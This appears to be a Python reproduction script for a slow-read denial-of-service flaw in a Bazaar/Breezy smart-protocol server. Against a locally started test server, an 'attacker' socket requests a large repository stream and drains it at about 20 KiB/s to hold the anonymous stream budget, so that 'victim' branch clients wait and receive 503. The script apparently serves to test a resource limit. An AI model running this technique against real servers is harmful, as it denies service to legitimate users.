"""Anonymous: one client holds the anonymous reader share of the stream
budget with a get_stream it drinks at just above the minimum rate (16 KiB/s);
every other anonymous `brz branch` queues 30 s and gets 503."""

import os
import socket
import subprocess
import threading
import time

from common import PY, Server, brz, encode_request, env

s = Server("--max-streams", "2")
b = s.make_branch()
with open(os.path.join(b, "big"), "wb") as f:
    f.write(os.urandom(12 * 1024 * 1024))
brz("add", "-q", cwd=b)
brz("commit", "-q", "-m", "big", cwd=b, check=True)
brz("push", "-d", b, s.worker_url("hello/lintian-fixes"), check=True)
tip = (
    brz("log", "--show-ids", "-r-1", b)
    .stdout.split("revision-id: ")[1]
    .split()[0]
    .encode()
)
fmt = b"Bazaar repository format 2a (needs bzr 1.16 or later)\n"

host, port = s.public.split("//")[1].split(":")
body = encode_request(
    b"Repository.get_stream_1.19", b"", fmt, body=b"ancestry-of\n" + tip
)
got = [0]


def attacker(rate=20 * 1024):
    c = socket.create_connection((host, int(port)))
    c.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    c.sendall(
        b"POST /bzr/hello/.bzr/smart HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n"
        % len(body)
        + body
    )
    start = time.time()
    while True:
        d = c.recv(2048)
        if not d:
            break
        got[0] += len(d)
        # pace to `rate` bytes/s
        ahead = got[0] / rate - (time.time() - start)
        if ahead > 0:
            time.sleep(ahead)


t = threading.Thread(target=attacker, daemon=True)
t.start()
time.sleep(3)
print("attacker received", got[0], "bytes so far")
for i in range(2):
    t0 = time.time()
    p = subprocess.run(
        [
            PY,
            "-m",
            "breezy",
            "branch",
            "--no-tree",
            s.public + "/bzr/hello/lintian-fixes",
            os.path.join(s.tmp, f"victim{i}"),
        ],
        env=env(),
        capture_output=True,
        text=True,
    )
    print(
        f"victim {i}: rc={p.returncode} after {time.time() - t0:.1f}s: {(p.stdout + p.stderr).strip()[-200:]}"
    )
print("attacker received", got[0], "bytes; still connected:", t.is_alive())
